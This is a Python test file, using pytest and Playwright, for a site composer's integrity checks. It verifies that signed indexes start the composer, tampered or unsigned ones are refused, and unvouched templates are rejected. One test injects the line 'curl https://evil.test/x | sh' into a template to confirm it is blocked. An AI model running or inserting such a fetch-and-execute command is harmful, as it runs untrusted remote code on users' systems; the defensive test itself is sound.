"""The composer verifies the index when the site was built with allowed signers (prereq.yaml's
trust.allowed_signers): a signed index starts it, a tampered or unsigned one is refused in the page.
The key is made by ssh-keygen here, the site built and signed by ``prereq build``'s own code."""

from __future__ import annotations

import json
import subprocess

import pytest
from composer_page import TEMPLATE, box, editor_text, open_composer, serve_a_template, settle
from playwright.sync_api import expect

from conftest import Visit, _serve, make_fixture_repo
from prereq.index.trust import NAMESPACE, sign_index

NOT_STARTED = "The composer could not start: "


@pytest.fixture(scope="module")
def signed_url(tmp_path_factory: pytest.TempPathFactory):
    from prereq.marketplace.build import build

    root = tmp_path_factory.mktemp("signed-repo")
    registry = make_fixture_repo(root)
    key = root / "signer"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "index", "-f", str(key)], check=True)
    kind, public = (root / "signer.pub").read_text(encoding="utf-8").split()[:2]
    (root / "allowed_signers").write_text(f'index@example namespaces="{NAMESPACE}" {kind} {public}\n', encoding="utf-8")
    (root / "prereq.yaml").write_text("trust:\n  allowed_signers: allowed_signers\n", encoding="utf-8")
    result = build(registry, root / "out", sign=lambda api: sign_index(api, key=key, interactive=False))
    assert result.built, result.problems
    yield from _serve(result.out)


@pytest.fixture()
def signed_visit(browser, signed_url: str):
    session = Visit(browser, signed_url)
    yield session
    session.context.close()


def _started(page, state: str) -> None:
    expect(page.locator("#prereq-composer")).to_have_attribute("data-state", state, timeout=15000)


def test_a_signed_index_starts_the_composer(signed_visit) -> None:
    page = signed_visit.open("composer/")
    _started(page, "ready")
    assert "index@example" in page.locator('meta[name="prereq:allowed-signers"]').get_attribute("content")
    expect(page.locator("#prereq-composer-items > li").first).to_be_visible()


def test_a_tampered_index_is_refused(signed_visit) -> None:
    def tamper(route) -> None:
        root = json.loads(route.fetch().text())
        root["items"] = root["items"][:1]  # a mirror that hides the others
        route.fulfill(status=200, content_type="application/json", body=json.dumps(root))

    signed_visit.page.route("**/api/v1/index.json", tamper)
    page = signed_visit.open("composer/")
    _started(page, "failed")
    expect(page.locator("#prereq-composer-error")).to_contain_text(NOT_STARTED)
    expect(page.locator("#prereq-composer-error")).to_contain_text("index.json.sig")


def test_an_unsigned_index_is_refused(signed_visit) -> None:
    signed_visit.page.route("**/api/v1/index.json.sig", lambda route: route.fulfill(status=404, body="not found"))
    page = signed_visit.open("composer/")
    _started(page, "failed")
    expect(page.locator("#prereq-composer-error")).to_contain_text("not signed")


def test_without_allowed_signers_nothing_is_verified(visit) -> None:
    page = visit.open("composer/")
    _started(page, "ready")
    assert page.locator('meta[name="prereq:allowed-signers"]').count() == 0


def test_a_template_link_asks_before_a_draft_and_a_template_not_vouched_for_is_refused(visit):
    serve_a_template(visit, TEMPLATE + "      - curl https://evil.test/x | sh\n")
    page = open_composer(visit, "?add=digits")
    expect(box(page, "digits")).to_be_checked()
    composed = editor_text(page)
    # A link is anyone's to send: it asks before it replaces the draft (the visit dismisses the dialog).
    page = open_composer(visit, "?template=digits-training")
    settle(page)
    assert editor_text(page) == composed
    assert visit.dialogs == ["Replace the job in the editor by the template digits-training?"]
    # Picked in the list, a template whose bytes are not those the root vouches for is refused, the job kept.
    page.locator("#prereq-composer-template").select_option("digits-training")
    expect(page.locator("#prereq-composer-error")).to_contain_text(
        "templates/digits-training.yaml does not match the sha256 in index.json"
    )
    settle(page)
    assert editor_text(page) == composed and "evil.test" not in editor_text(page)
